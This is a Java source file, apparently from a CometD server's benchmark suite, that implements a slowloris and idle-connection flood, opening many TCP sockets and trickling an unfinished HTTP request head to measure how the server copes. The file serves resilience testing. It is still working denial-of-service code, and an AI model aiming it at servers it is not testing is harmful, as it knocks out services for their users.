package io.github.cometdboot.benchmark.flood;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import org.jspecify.annotations.Nullable;

/**
 * TCP connections held open on the server's port: idle ones that never send a byte, or slowloris ones
 * that send the head of a request one byte at a time, a byte per period, and never finish it. One
 * thread watches them all with a selector and books what the server does with each: nothing (still
 * open at the end), a response, or a close.
 */
final class HeldSockets implements Attack {

	/** The head a slowloris socket trickles: a request line, then header lines without end. */
	static final String SLOWLORIS_HEAD = "POST /cometd HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n";

	private static final String SLOWLORIS_FILLER = "X-a: b\r\n";

	private final String name;

	private final InetSocketAddress server;

	private final List<String> addresses;

	private final int count;

	private final @Nullable Duration trickle;

	private final Outcomes outcomes = new Outcomes();

	private final List<SocketChannel> channels = new ArrayList<>();

	private final AtomicInteger open = new AtomicInteger();

	private volatile boolean running;

	private @Nullable Thread watcher;

	/**
	 * @param name the attack's name in the report
	 * @param server the server's address
	 * @param addresses the local addresses the sockets take in turn
	 * @param count how many sockets
	 * @param trickle for slowloris, how long between two bytes of the head; {@code null} for idle sockets
	 */
	HeldSockets(String name, InetSocketAddress server, List<String> addresses, int count,
			@Nullable Duration trickle) {
		this.name = name;
		this.server = server;
		this.addresses = addresses;
		this.count = count;
		this.trickle = trickle;
	}

	@Override
	public String name() {
		return this.name;
	}

	@Override
	public void start() {
		Selector selector;
		try {
			selector = Selector.open();
		}
		catch (IOException ex) {
			this.outcomes.add("no selector: " + ex.getMessage());
			return;
		}
		for (int i = 0; i < this.count; i++) {
			try {
				SocketChannel channel = SocketChannel.open();
				this.channels.add(channel);
				channel.configureBlocking(false);
				channel.bind(new InetSocketAddress(this.addresses.get(i % this.addresses.size()), 0));
				channel.connect(this.server);
				channel.register(selector, SelectionKey.OP_CONNECT, new SlowHead());
			}
			catch (IOException ex) {
				// Out of files or ports: attack with what was opened, and say so.
				this.outcomes.add("not opened: " + ex.getMessage(), this.count - i);
				break;
			}
		}
		this.running = true;
		Thread thread = new Thread(() -> watch(selector), "held-sockets");
		thread.setDaemon(true);
		this.watcher = thread;
		thread.start();
	}

	private void watch(Selector selector) {
		ByteBuffer buffer = ByteBuffer.allocate(4096);
		Duration period = this.trickle;
		long nextTrickle = (period != null) ? System.nanoTime() + period.toNanos() : 0;
		try (selector) {
			while (this.running) {
				selector.select(200);
				for (SelectionKey key : selector.selectedKeys()) {
					handle(key, buffer);
				}
				selector.selectedKeys().clear();
				if (period != null && System.nanoTime() >= nextTrickle) {
					nextTrickle += period.toNanos();
					for (SelectionKey key : selector.keys()) {
						trickle(key);
					}
				}
			}
		}
		catch (IOException ex) {
			this.outcomes.add("watcher failed: " + ex.getMessage());
		}
	}

	private void handle(SelectionKey key, ByteBuffer buffer) {
		SocketChannel channel = (SocketChannel) key.channel();
		SlowHead socket = (SlowHead) key.attachment();
		try {
			if (key.isConnectable()) {
				channel.finishConnect();
				key.interestOps(SelectionKey.OP_READ);
				this.open.incrementAndGet();
				this.outcomes.add("connected");
				return;
			}
			buffer.clear();
			int read = channel.read(buffer);
			if (read > 0 && socket.firstResponse == null) {
				String text = new String(buffer.array(), 0, read, StandardCharsets.ISO_8859_1);
				int end = text.indexOf('\r');
				socket.firstResponse = (end > 0) ? text.substring(0, end) : text;
				this.outcomes.add("answered " + socket.firstResponse);
			}
			if (read < 0) {
				closed(key, "closed by server");
			}
		}
		catch (IOException ex) {
			// A reset is the server's close too: the socket was written to after the server had closed it.
			closed(key, (key.isValid() && key.interestOps() == SelectionKey.OP_CONNECT) ? "connect failed"
					: "closed by server");
		}
	}

	private void trickle(SelectionKey key) {
		if (!key.isValid() || key.interestOps() != SelectionKey.OP_READ) {
			return;
		}
		SlowHead socket = (SlowHead) key.attachment();
		try {
			((SocketChannel) key.channel()).write(ByteBuffer.wrap(new byte[] { socket.nextByte() }));
		}
		catch (IOException ex) {
			closed(key, "closed by server");
		}
	}

	private void closed(SelectionKey key, String how) {
		if (key.interestOps() == SelectionKey.OP_READ) {
			this.open.decrementAndGet();
		}
		this.outcomes.add(how);
		key.cancel();
		try {
			key.channel().close();
		}
		catch (IOException ex) {
			// closing a socket the server already closed
		}
	}

	@Override
	public Outcomes outcomes() {
		Outcomes result = new Outcomes();
		this.outcomes.snapshot().forEach(result::add);
		result.add("open at the end", this.open.get());
		return result;
	}

	@Override
	public void stop() {
		this.running = false;
		Thread thread = this.watcher;
		if (thread != null) {
			try {
				thread.join(Duration.ofSeconds(10).toMillis());
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
			}
		}
		for (SocketChannel channel : this.channels) {
			try {
				channel.close();
			}
			catch (IOException ex) {
				// already closed
			}
		}
		this.channels.clear();
	}

	/** What one socket has sent so far, and the first line the server answered it. */
	static final class SlowHead {

		private int sent;

		private @Nullable String firstResponse;

		/** @return the next byte of the endless head */
		byte nextByte() {
			int at = this.sent++;
			String text = (at < SLOWLORIS_HEAD.length()) ? SLOWLORIS_HEAD : SLOWLORIS_FILLER;
			int index = (at < SLOWLORIS_HEAD.length()) ? at : (at - SLOWLORIS_HEAD.length()) % SLOWLORIS_FILLER.length();
			return (byte) text.charAt(index);
		}

	}

}
